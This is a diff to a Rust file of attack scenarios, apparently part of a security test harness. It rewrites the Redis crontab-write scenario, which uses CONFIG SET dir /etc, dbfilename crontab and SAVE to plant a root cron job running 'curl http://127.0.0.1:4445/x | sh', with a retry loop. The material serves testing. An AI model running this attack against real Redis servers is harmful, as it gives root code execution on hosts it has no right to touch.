@@ -111,22 +111,22 @@ pub const SCENARIOS: &[Scenario] = &[
         what: "makes the server save its data as a crontab (CONFIG SET dir), the commonest attack on open redis servers",
         services: &[],
         act: |t| {
-            let job = "\n\n* * * * * curl http://127.0.0.1:4445/x | sh\n\n";
+            let job = "\n\n* * * * * root curl http://127.0.0.1:4445/x | sh\n\n";
             let set = format!("*3\r\n$3\r\nSET\r\n$1\r\nx\r\n${}\r\n{job}\r\n", job.len());
-            let script = [
-                "CONFIG SET dir /etc",
-                "CONFIG SET dir /var/spool/cron",
-                "CONFIG SET dbfilename root",
-                "SAVE",
-                "CONFIG GET dir",
-                "CONFIG SET dbfilename dump.rdb",
-                "CONFIG SET dir /tmp",
-                "DEL x",
-                "QUIT",
-            ];
-            attacker::ask(&t.network, 6379, format!("{set}{}\r\n", script.join("\r\n")).as_bytes())
+            let before = "CONFIG SET dir /etc\r\nCONFIG SET dbfilename crontab\r\nSAVE\r\nCONFIG GET dir";
+            let after = "CONFIG SET dir /tmp\r\nCONFIG SET dbfilename dump.rdb\r\nDEL x\r\nQUIT";
+            let mut answer = String::new();
+            // A snapshot of the server's own may be under way: then it refuses, and is asked again.
+            for _ in 0..5 {
+                answer = attacker::ask(&t.network, 6379, format!("{set}{before}\r\n{after}\r\n").as_bytes())?;
+                if !answer.contains("-ERR") {
+                    break;
+                }
+            }
+            ensure!(!answer.contains("-ERR"), "the server refused: {answer}");
+            Ok(answer)
         },
-        proof: "+OK",
+        proof: "\r\n/etc\r\n",
     },
     Scenario {
         name: "shell",
